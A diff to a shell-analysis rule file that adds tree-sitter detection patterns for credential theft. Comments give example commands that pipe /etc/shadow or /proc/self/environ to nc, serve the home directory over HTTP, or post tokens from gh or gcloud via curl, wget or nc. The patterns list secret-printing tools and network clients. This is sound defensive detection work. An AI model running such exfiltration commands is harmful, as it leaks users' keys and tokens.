@@ -322,12 +322,14 @@
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
-; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...): a credential file
-; named relative to the directory the statement before went to (a directory
-; that is itself one, ~/.ssh, already is); only a plain cd and a plain
-; command after it, in a block, a list or a subshell (the pattern is
-; anchored on those, not on every node)
-([(list (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
+; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
+; shadow | nc h p, cd /proc/self; nc h p < environ: a credential file named
+; relative to the directory the statement before went to (a directory that
+; is itself one, ~/.ssh, already is); only a plain cd and, after it, a
+; command, a pipeline or a redirect, in a block, a list or a subshell (the
+; pattern is anchored on those, not on every node)
+([(list (command argument: (_) @dir) @cd . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
+  (redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
   (program (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
   (compound_statement (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
   (subshell (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)]
@@ -367,6 +369,16 @@
  (#set! severity "high")
  (#set! message "copies the whole home directory elsewhere, its keys and tokens with it (~/.ssh, ~/.aws, ...)"))
 
+; python3 -m http.server --directory ~, php -S 0.0.0.0:80 -t "$HOME",
+; busybox httpd -h /, ruby -run -e httpd ~: a web server whose root is the
+; home directory (or /), its keys and tokens served to whoever connects
+((command) @n @finding
+ (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*")
+ (#match? @n "(-m\\s*(http\\.server|SimpleHTTPServer)\\s(.*\\s)?(--directory[=\\s]\\s*|-d\\s*)|\\s-S\\s+\\S+\\s(.*\\s)?-t\\s*|httpd\\s(.*\\s)?-h\\s*|-e\\s*['\"]?httpd['\"]?\\s(.*\\s)?)[\"']?(~|\\$\\{?HOME\\}?|/home/[^/\\s\"']+|/root|/)/*\\.?/*[\"']?(\\s|$)")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
+
 ; git credential fill: the password or token git's credential helper
 ; stored, printed
 ((command) @n @finding
@@ -398,6 +410,35 @@
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))
+
+; tok=$(gh auth token); curl -d "t=$tok" u, k=$(gcloud auth
+; print-access-token); p="{\"k\":\"$k\"}"; wget --post-data "$p" u,
+; s=$(secret-tool lookup ...); nc h p <<< "$s", c=$(aws configure
+; export-credentials); jq -n --arg c "$c" ... | curl --data @- u: the token
+; kept in a variable (or two), then sent as data or piped into a network
+; client (in a header, curl -H "Authorization: Bearer $tok", it is used as
+; a token is, and is not reported)
+((command argument: (word) @flag . argument: (_) @data) @n @finding
+ (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
+
+((command redirect: (herestring_redirect) @data) @n @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
+
+((pipeline (_) @src (_) @sink) @finding
+ (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @src "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
 
 ; A project's .env: a script that sources it (set -a; . ./.env) or names
 ; it in a message configures itself; one that gives it to a network client
